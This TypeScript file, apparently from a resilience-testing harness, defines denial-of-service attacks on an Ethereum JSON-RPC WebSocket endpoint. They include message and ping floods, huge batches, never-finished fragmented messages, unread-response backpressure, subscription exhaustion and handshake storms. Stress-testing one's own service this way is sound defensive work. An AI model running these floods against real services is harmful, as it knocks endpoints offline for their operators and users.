// Attacks of one credential over WebSocket.
import { type Attacker, inTurn } from '../attacker/attacker.ts'
import { batchOf, ethCall, rpcCall } from '../attacker/calls.ts'
import { opcodes, RawWebSocket, webSocketFrame, type WebSocketOptions } from '../attacker/websocket.ts'
import type { AttackTable } from './attack.ts'

const { text, continuation, ping } = opcodes
const mebibyte = 1 << 20

/** Attacks over WebSocket. */
export const webSocketAttacks: AttackTable = {
  'websocket:characters-invalid': (attacker) =>
    floodOfMessages(attacker, webSocketFrame(text, Buffer.from('x'))),
  'websocket:characters-valid': (attacker) =>
    floodOfMessages(attacker, webSocketFrame(text, Buffer.from('1'))),
  'websocket:empty-objects': (attacker) => floodOfMessages(attacker, webSocketFrame(text, Buffer.from('{}'))),
  'websocket:calls': (attacker) => floodOfMessages(attacker, webSocketFrame(text, ethCall(1)), 2_000),
  'websocket:long-batches': (attacker) => {
    const message = webSocketFrame(text, batchOf('1', 2_000_000))
    repeatOver(attacker, 4, 5, {}, (socket) => socket.write(message))
  },
  'websocket:large-messages': (attacker) => {
    let number = 0
    repeatOver(attacker, 8, 12, {}, (socket) => {
      number += 1
      socket.write(webSocketFrame(text, ethCall(number, 'slow', 2 * mebibyte)))
    })
  },
  'websocket:unfinished-messages': (attacker) => {
    const piece = Buffer.alloc(256 << 10, ' ')
    floodOfFragments(attacker, 64, 64, piece, 19)
  },
  'websocket:small-fragments': (attacker) => {
    const fragment = webSocketFrame(continuation, Buffer.from(' '), false)
    const many = Buffer.concat(Array.from({ length: 1_000 }, () => fragment))
    const begun = new WeakSet<RawWebSocket>()
    repeatOver(attacker, 16, 100, {}, (socket) => {
      if (!begun.has(socket)) socket.write(webSocketFrame(text, Buffer.from('['), false))
      begun.add(socket)
      socket.write(many)
    })
  },
  'websocket:ping-flood': (attacker) => floodOfMessages(attacker, webSocketFrame(ping, Buffer.alloc(125))),
  'websocket:unread-responses': (attacker) => {
    const message = webSocketFrame(text, rpcCall('eth_getLogs', [{ fromBlock: 'latest', toBlock: 'latest' }]))
    repeatOver(attacker, 100, 500, { reads: false }, (socket) => socket.write(message))
  },
  'websocket:unread-errors': (attacker) => {
    const message = webSocketFrame(text, batchOf('{"id":1}', 900))
    repeatOver(attacker, 100, 500, { reads: false }, (socket) => socket.write(message))
  },
  'websocket:unread-notifications': (attacker) => {
    subscribe(attacker, 100, { reads: false }, () => rpcCall('eth_subscribe', ['logs', {}]))
  },
  'websocket:log-subscriptions': (attacker) => {
    let number = 0
    subscribe(attacker, 16, {}, () => {
      number += 1
      return rpcCall('eth_subscribe', ['logs', { topics: [`0x${number.toString(16).padStart(64, '0')}`] }])
    })
  },
  'websocket:subscribe-and-unsubscribe': (attacker) => {
    const subscription = webSocketFrame(text, rpcCall('eth_subscribe', ['newHeads']))
    const end = webSocketFrame(text, rpcCall('eth_unsubscribe', ['0x1']))
    const both = Buffer.concat([subscription, end])
    repeatOver(attacker, 16, 1_000, {}, (socket) => socket.write(both))
  },
  'websocket:handshakes': (attacker) => {
    attacker.repeat(300, () => {
      const socket = new RawWebSocket(attacker, { path: pathOf(attacker) })
      setTimeout(() => socket.close(), 100)
    })
  },
}

function pathOf({ target }: Attacker): string {
  return `/ws/${target.tokens[0]}`
}

function repeatOver(
  attacker: Attacker,
  sockets: number,
  perSecond: number,
  options: Omit<WebSocketOptions, 'path'>,
  unit: (socket: RawWebSocket) => void,
): void {
  const path = pathOf(attacker)
  const next = inTurn(attacker.hold(sockets, () => new RawWebSocket(attacker, { path, ...options })))
  attacker.repeat(perSecond, () => {
    const socket = next()
    if (socket?.isWritable === true) unit(socket)
  })
}

/** Sends a small message many times in each write, several megabytes a second. */
function floodOfMessages(attacker: Attacker, frame: Buffer, inWrite = 9_000): void {
  const many = Buffer.concat(Array.from({ length: inWrite }, () => frame))
  repeatOver(attacker, 100, 100, {}, (socket) => socket.write(many))
}

/** Sends messages in fragments over many sockets, each up to the last fragment, which never follows. */
function floodOfFragments(
  attacker: Attacker,
  sockets: number,
  perSecond: number,
  piece: Buffer,
  count: number,
) {
  const sent = new WeakMap<RawWebSocket, number>()
  repeatOver(attacker, sockets, perSecond, {}, (socket) => {
    const before = sent.get(socket) ?? 0
    if (before === count) return
    sent.set(socket, before + 1)
    socket.write(webSocketFrame(before === 0 ? text : continuation, piece, false))
  })
}

/** Subscribes until each socket has a share of the 4,096 subscriptions that a credential may have. */
function subscribe(
  attacker: Attacker,
  sockets: number,
  options: Omit<WebSocketOptions, 'path'>,
  next: () => Buffer,
): void {
  const most = Math.floor(4_000 / sockets)
  const subscribed = new WeakMap<RawWebSocket, number>()
  repeatOver(attacker, sockets, 2_000, options, (socket) => {
    const before = subscribed.get(socket) ?? 0
    if (before === most) return
    subscribed.set(socket, before + 1)
    socket.write(webSocketFrame(text, next()))
  })
}
